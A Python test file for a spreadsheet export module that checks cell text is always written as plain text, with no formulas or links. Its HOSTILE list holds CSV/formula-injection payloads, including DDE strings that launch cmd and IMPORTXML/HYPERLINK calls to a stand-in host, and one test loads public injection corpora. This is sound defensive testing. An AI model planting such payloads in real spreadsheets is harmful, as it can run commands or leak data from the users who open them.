"""A workbook holds texts as texts: nothing of them becomes a formula, a link or a number."""

from __future__ import annotations

import io
import json
import zipfile
from typing import TYPE_CHECKING

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from actors_graph.reports.workbook import LONGEST_CELL, Choice, Column, Sheet, workbook
from actors_graph.sources import read_tables

if TYPE_CHECKING:
    from pathlib import Path

    from openpyxl.worksheet.worksheet import Worksheet

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://exemple.invalid";"ici")',
    "+33 4 70 00 00 00",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    '=IMPORTXML(CONCAT("http://exemple.invalid/";A1);"//a")',
    "=2+5+cmd|' /C calc'!A0",
    'DDE ("cmd";"/C calc";"!A0")A0',
    "＝1+1",
    "http://exemple.invalid",
    "mailto:a@exemple.invalid",
    "internal:Sheet1!A1",
    "{=SUM(A1:A2)}",
    "03190",
    "_x0041_",
    "'apostrophe",
    " bords ",
    "deux\nlignes",
    "<b>&amp;</b>",
    "Les Tournesols 🌻",
]


def column_of(texts: list[str]) -> bytes:
    return workbook([Sheet("Noms", (Column("Nom"),), [[text] for text in texts])])


def read_back(content: bytes, *, header: int = 1) -> list[object]:
    tab = opened(content)["Noms"]
    return [tab.cell(row, 1).value for row in range(header + 1, tab.max_row + 1)]


def opened(content: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(content))


def check_no_formula(content: bytes) -> None:
    """Neither a formula nor a link in any part of the file."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            part = archive.read(name)
            assert b"<f>" not in part, name
            assert b"<hyperlink" not in part, name
            assert b'TargetMode="External"' not in part, name


def test_hostile_texts_come_back_as_they_were() -> None:
    content = column_of(HOSTILE)

    check_no_formula(content)
    assert read_back(content) == HOSTILE


def test_hostile_texts_are_read_by_the_import_as_they_were(tmp_path: Path) -> None:
    path = tmp_path / "noms.xlsx"
    path.write_bytes(column_of(HOSTILE))
    (raw,) = read_tables(path)

    assert raw.header == ("Nom",)
    assert raw.columns == [HOSTILE]


@pytest.mark.shared
def test_published_payloads_come_back_as_they_were(shared: Path, tmp_path: Path) -> None:
    """Payloads of payloadbox (formulas) and the « big list of naughty strings »."""
    corpora = shared / "corpora"
    payloads = (corpora / "csv-injection/Intruder/csv-payload.txt").read_text("utf-8").splitlines()
    naughty = json.loads((corpora / "naughty/blns.json").read_text("utf-8"))
    texts = [text for text in [*payloads, *naughty] if text.strip() and text.isprintable()]
    content = column_of(texts)

    assert payloads
    assert len(texts) > 450
    check_no_formula(content)
    assert read_back(content) == texts
    path = tmp_path / "noms.xlsx"
    path.write_bytes(content)
    assert read_tables(path)[0].columns == [texts]


@given(st.lists(st.text(st.characters(exclude_categories=["Cc", "Cs", "Cn"]), min_size=1)))
def test_any_text_comes_back_as_it_was(texts: list[str]) -> None:
    assert read_back(column_of(texts)) == texts


@given(st.text())
def test_no_text_breaks_the_file(text: str) -> None:
    tab = opened(workbook([Sheet(text, (Column(text, help=text),), [[text]], title=text)]))

    assert len(tab.sheetnames) == 1


def texts_above(tab: Worksheet) -> list[str]:
    column = [tab.cell(row, 1).value for row in range(1, 12)]
    return [str(value) for value in column if value]


def test_what_a_cell_cannot_hold_is_said() -> None:
    rows = [["x" * (LONGEST_CELL + 1)], ["🌻" * 20_000], ["a\x01b"], ["c\ud800"]]
    tab = opened(workbook([Sheet("Noms", (Column("Nom"),), rows, title="Essai")]))["Noms"]
    said = texts_above(tab)

    assert said[1] == "2\xa0cellules de plus de 32 767 caractères : la fin n’est pas écrite ici."
    assert said[2].startswith("2\xa0cellules avec des signes qu’un tableur n’écrit pas")
    assert said[3] == "Nom"
    assert len(said[4]) == LONGEST_CELL
    assert len(said[5].encode("utf-16-le")) // 2 <= LONGEST_CELL
    assert said[6:8] == ["a�b", "c�"]


def test_sheet_opens_with_what_it_covers() -> None:
    sheet = Sheet(
        "À appeler",
        (Column("Nom"), Column("Fiches")),
        [["=1", 3]],
        title="Structures à appeler",
        scope="Associations du bassin de Vichy.",
        on="2026-03-01",
        source="votre annuaire",
    )
    tab = opened(workbook([sheet]))["À appeler"]

    assert texts_above(tab)[:3] == [
        "Structures à appeler",
        "Associations du bassin de Vichy.",
        "Au 1er mars 2026 · Source : votre annuaire",
    ]
    # An empty line, the header, the rows; what is above stays in sight, and can be filtered.
    assert [tab.cell(5, 1).value, tab.cell(6, 1).value, tab.cell(6, 2).value] == ["Nom", "=1", 3]
    assert tab.freeze_panes == "A6"
    assert tab.auto_filter.ref == "A5:B6"


def test_same_sheets_are_the_same_bytes() -> None:
    assert column_of(["a"]) == column_of(["a"])


def test_tabs_of_equal_or_forbidden_names_are_told_apart() -> None:
    names = ["a/b:c", "A b c", "x" * 40, "x" * 41, "''", "Listes"]
    book = opened(workbook([Sheet(name, (Column("Nom"),)) for name in names]))

    assert book.sheetnames == [
        "a b c",
        "A b c (2)",
        "x" * 31,
        f"{'x' * 27} (2)",
        "Feuille",
        "Listes (2)",
    ]


def test_choices_are_a_drop_down_list() -> None:
    """A closed list stops, an open one only says so; both may be longer than 255 characters."""
    closed = Choice(tuple(f"valeur {place}" for place in range(60)))
    columns = (Column("Type", choice=closed), Column("Thème", choice=Choice(("a", "b"), False)))  # noqa: FBT003  as it reads
    content = workbook([Sheet("Acteurs", columns, blank=100)])
    book = opened(content)
    found = book["Acteurs"].data_validations.dataValidation

    assert [(str(one.sqref), one.formula1, one.errorStyle) for one in found] == [
        ("A2:A101", "'Listes'!$A$2:$A$61", None),
        ("B2:B101", "'Listes'!$B$2:$B$3", "information"),
    ]
    assert book["Listes"].sheet_state == "hidden"
    assert book["Listes"]["A61"].value == "valeur 59"
    check_no_formula(content)


def test_a_workbook_needs_a_sheet() -> None:
    with pytest.raises(ValueError, match="at least one"):
        workbook([])
